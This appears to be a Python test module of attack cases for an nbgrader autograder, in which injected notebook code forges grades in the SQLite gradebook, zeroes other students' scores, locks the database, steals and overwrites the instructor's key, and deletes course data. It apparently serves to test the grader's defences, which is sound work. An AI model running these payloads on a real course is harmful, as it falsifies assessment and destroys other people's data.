"""Through the gradebook and what else the grader writes."""

from attacks.attack import attack

SQL = """\
import sqlite3
try:
    line = sqlite3.connect("file:{path}?mode=rw", uri=True, timeout=2)
{orders}
    line.commit()
except Exception as error:
    print(error)
"""


def _sql(hand_in, *orders):
    lines = "\n".join(f"    line.execute({order!r})" for order in orders)
    hand_in.trick(SQL.format(path=hand_in.course / "gradebook.db", orders=lines))


@attack()
def writes_the_gradebook(hand_in):
    """Gives itself full marks by hand, in the database."""
    _sql(
        hand_in,
        "update grade set manual_score = 15, extra_credit = 15 where notebook_id in ("
        "select n.id from submitted_notebook n join submitted_assignment a "
        f"on n.assignment_id = a.id where a.student_id = '{hand_in.student}')",
    )


@attack()
def lowers_the_bystanders(hand_in):
    """Gives everybody else no points, in the database."""
    _sql(hand_in, "update grade set auto_score = 0, manual_score = 0")


@attack()
def raises_what_cells_are_worth(hand_in):
    """Changes in the database what exercises are worth."""
    _sql(hand_in, "update grade_cell set max_score = 1000 where max_score > 0")


@attack(alone=True)
def locks_the_gradebook(hand_in):
    """Holds a lock on the database for as long as it can."""
    _sql(hand_in, "begin exclusive")
    cell = hand_in.cell("compute_cost")
    cell.source += "\n\n\nimport time\ntime.sleep(20)"


@attack()
def uses_nbgraders_api(hand_in):
    """Opens the gradebook with nbgrader's own functions, and marks itself."""
    hand_in.trick(
        "try:\n"
        "    from nbgrader.api import Gradebook\n"
        f"    with Gradebook('sqlite:///{hand_in.course}/gradebook.db') as book:\n"
        f"        mine = book.find_submission('{hand_in.lesson}', '{hand_in.student}')\n"
        "        for notebook in mine.notebooks:\n"
        "            for grade in notebook.grades: grade.extra_credit = 15\n"
        "        book.db.commit()\n"
        "except Exception as error: print(error)"
    )


@attack()
def writes_autograded(hand_in):
    """Writes its own executed notebook and its feedback."""
    folders = [f"{hand_in.course}/{f}/{hand_in.student}" for f in ("autograded", "feedback")]
    hand_in.trick(
        "import os\n"
        f"for folder in {folders!r}:\n"
        "    try:\n"
        f"        os.makedirs(folder + '/{hand_in.lesson}', exist_ok=True)\n"
        f"        path = folder + '/{hand_in.lesson}/{hand_in.lesson}.ipynb'\n"
        "        open(path, 'w').write('{}'); open(folder + '/ATTACK', 'w').write('x')\n"
        "    except OSError as error: print(error)"
    )


@attack()
def writes_a_record(hand_in):
    """Writes a record of full marks, where a later run looks for what is done already."""
    record = f"{hand_in.course}/build/records/{hand_in.lesson}"
    hand_in.trick(
        "import os, glob\n"
        "try:\n"
        f"    os.makedirs({record!r}, exist_ok=True)\n"
        f"    open({record + '/' + hand_in.student + '.json'!r}, 'w').write('{{\"score\": 100}}')\n"
        f"    for path in glob.glob({record + '/*bystander*'!r}): os.unlink(path)\n"
        "except OSError as error: print(error)"
    )


@attack()
def takes_the_key(hand_in):
    """Reads the instructor's key of the hidden inputs, or puts one of its own there."""
    path = f"{hand_in.course}/gradebook.key"
    hand_in.trick(
        "try:\n"
        f"    print(open({path!r}, 'rb').read().hex())\n"
        f"    open({path!r}, 'wb').write(bytes(32))\n"
        "except OSError as error: print(error)"
    )


@attack(alone=True)
def deletes_everything(hand_in):
    """Deletes the gradebook, the submissions, the feedback and its own folder."""
    course = str(hand_in.course)
    hand_in.trick(
        "import os, shutil\n"
        f"for name in ('gradebook.db', 'submitted', 'autograded', 'feedback', 'notebooks'):\n"
        f"    path = {course!r} + '/' + name\n"
        "    try: os.unlink(path) if name.endswith('.db') else shutil.rmtree(path)\n"
        "    except OSError: pass\n"
        "shutil.rmtree(os.getcwd(), ignore_errors=True)"
    )


@attack()
def writes_the_exported_grades(hand_in):
    """Writes a line of its own into the exported table."""
    hand_in.trick(
        "try:\n"
        f"    open('{hand_in.course}/grades.csv', 'a').write('{hand_in.student},100')\n"
        "except OSError as error: print(error)"
    )
